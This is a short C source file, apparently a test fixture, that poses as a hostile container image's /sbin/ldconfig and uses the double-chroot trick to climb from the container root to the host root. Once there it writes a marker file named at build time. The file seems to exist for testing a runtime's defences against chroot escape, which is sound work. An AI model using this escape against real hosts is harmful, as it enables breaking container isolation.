/* A hostile image's /sbin/ldconfig: if run as root after a chroot into the container's root,
 * it climbs out (a second chroot below the first, then ".." to the real root) and writes the
 * file named by the HOSTILE_MARK it was built with. Built static (a test fixture). */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(void) {
    mkdir(".kubeacc-escape", 0700);
    if (chroot(".kubeacc-escape") == 0)
        for (int i = 0; i < 64; i++) chdir("..");
    chroot(".");
    int fd = open(HOSTILE_MARK, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd >= 0) {
        write(fd, "escaped\n", 8);
        close(fd);
    }
    return 0;
}
